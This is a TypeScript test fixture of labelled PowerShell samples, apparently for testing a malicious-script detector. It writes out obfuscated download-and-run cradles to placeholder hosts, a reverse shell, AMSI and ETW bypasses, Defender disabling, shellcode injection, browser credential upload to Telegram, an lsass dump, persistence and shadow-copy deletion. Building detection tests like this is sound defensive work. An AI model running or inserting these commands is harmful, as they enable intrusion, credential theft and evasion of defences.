// Harmless PowerShell that shows the traits of attacks.
import { cradle, fetchAndRun, type Suspect, text, wide } from './suspect.ts'

export const powershell: readonly Suspect[] = [
  text('cradle.ps1', 'suspicious', ['script_runs_downloaded_text'], cradle),
  text('fetch.ps1', 'suspicious', ['script_downloads_and_runs'], fetchAndRun),
  text(
    'held-in-variables.ps1',
    'suspicious',
    ['script_runs_downloaded_text'],
    "function Get-Text($u) { $c = New-Object Net.WebClient; return $c.DownloadString($u) }\n$first = Get-Text 'http://files.example/a'\n$second = $first.Trim()\nInvoke-Expression $second",
  ),
  text(
    'asks-forever.ps1',
    'suspicious',
    ['script_runs_downloaded_text'],
    "while($true){Start-Sleep -s 90;$m=New-Object Net.WebClient;iex($m.DownloadString('https://raw.githubusercontent.com/example/a/main/a.txt'))}",
  ),
  text(
    'random-case.ps1',
    'suspicious',
    ['script_runs_unreadable_code'],
    '$sT=NeW-oBJecT SYstEm.IO.meMOrYsTReam;$Tx=[sYsTeM.teXT.EnCOdiNg]::aScII;$Sr=nEw-OBjEct IO.sTReaMREadEr($sT);$R=$sR.rEaDtOEnd();INvOkE-exPReSSion $R',
  ),
  text(
    'only-fetches.ps1',
    'suspicious',
    ['script_drops_fetched_program'],
    "$p=$env:temp+'\\f.exe';(New-Object Net.WebClient).DownloadFile('https://files.example/a.exe',$p);Start-Process $p",
  ),
  text(
    'numbers-split.ps1',
    'suspicious',
    ['script_runs_downloaded_text'],
    `'${[...cradle].map((sign) => sign.charCodeAt(0)).join('x')}'.Split('x') | %{([int]$_ -as [char])} | iex`,
  ),
  text(
    'fetch-hidden.ps1',
    'malicious',
    ['script_downloads_and_runs', 'script_conceals_itself'],
    `powershell -NoP -W Hidden -Ep Bypass -Enc ${wide(cradle)}`,
  ),
  text(
    'joined.ps1',
    'suspicious',
    ['script_runs_downloaded_text'],
    "$a='I'+'EX';$b='Down'+'loadStr'+'ing';&$a ((New-Object ('Net.'+'WebClient')).$b('http://203.0.113.7/x'))\niex (iwr http://203.0.113.7/x)",
  ),
  text(
    'amsi.ps1',
    'malicious',
    ['script_bypasses_amsi'],
    "[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils').GetField('amsi'+'InitFailed','NonPublic,Static').SetValue($null,$true)",
  ),
  text(
    'etw.ps1',
    'suspicious',
    ['script_disables_defences'],
    "$p=[Win32]::GetProcAddress($h,'EtwEventWrite'); [Win32]::VirtualProtect($p,[uint32]1,0x40,[ref]$o); [Runtime.InteropServices.Marshal]::Copy($b,0,$p,1)",
  ),
  text(
    'tcp.ps1',
    'malicious',
    ['script_powershell_reverse_shell'],
    "$c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String)}",
  ),
  text(
    'inject.ps1',
    'malicious',
    ['script_injects_code'],
    '$k=Add-Type -MemberDefinition \'[DllImport("kernel32")]public static extern IntPtr VirtualAlloc(IntPtr a,uint b,uint c,uint d);[DllImport("kernel32")]public static extern IntPtr CreateThread(IntPtr a,uint b,IntPtr c,IntPtr d,uint e,IntPtr f);\' -Name W -PassThru;$m=$k::VirtualAlloc(0,4096,0x3000,0x40);[Runtime.InteropServices.Marshal]::Copy($code,0,$m,$code.Length);$k::CreateThread(0,0,$m,0,0,0)',
  ),
  text(
    'reflect.ps1',
    'suspicious',
    ['script_loads_assembly_from_memory'],
    "$b=(New-Object Net.WebClient).DownloadData('http://203.0.113.7/l.dll');[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,@())",
  ),
  text(
    'defender.ps1',
    'suspicious',
    ['script_disables_defences'],
    'Set-MpPreference -DisableRealtimeMonitoring $true\nAdd-MpPreference -ExclusionPath C:\\\n',
  ),
  text(
    'run-key.ps1',
    'malicious',
    ['script_persists', 'script_downloads_and_runs'],
    `${fetchAndRun}\npowershell -w hidden -c "exit"\nNew-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value $env:TEMP\\a.exe`,
  ),
  text(
    'chars.ps1',
    'suspicious',
    ['script_runs_downloaded_text'],
    `-join ((${[...Buffer.from(cradle)].join(',')}) | % {[char]$_}) | iex`,
  ),
  text(
    'browser.ps1',
    'suspicious',
    ['script_steals_secrets'],
    'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" $env:TEMP\\l.db\nInvoke-RestMethod -Uri https://api.telegram.org/bot123:abc/sendDocument -Method Post -InFile $env:TEMP\\l.db',
  ),
  text(
    'lsass.ps1',
    'suspicious',
    ['script_steals_secrets'],
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\Users\\Public\\l.dmp full',
  ),
  text(
    'wmi.ps1',
    'suspicious',
    ['script_persists'],
    '$f=Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name="x"}\n$c=Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription -Arguments @{CommandLineTemplate="calc"}',
  ),
  text(
    'shadow.ps1',
    'suspicious',
    ['script_destroys_recovery'],
    'Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }\nvssadmin delete shadows /all /quiet',
  ),
  text(
    'format.ps1',
    'suspicious',
    ['script_runs_downloaded_text'],
    "$x=('{2}{0}{1}' -f 'wnloadStr','ing','Do'); iex ((New-Object Net.WebClient).$x('http://203.0.113.7/p')); IEX (New-Object Net.WebClient).('{1}{0}' -f 'String','Download')('http://203.0.113.7/p')\niwr http://203.0.113.7/p | iex",
  ),
  text('tool.ps1', 'suspicious', ['script_is_attack_tool'], 'Import-Module .\\x.ps1; Invoke-Mimikatz -DumpCreds'),
]
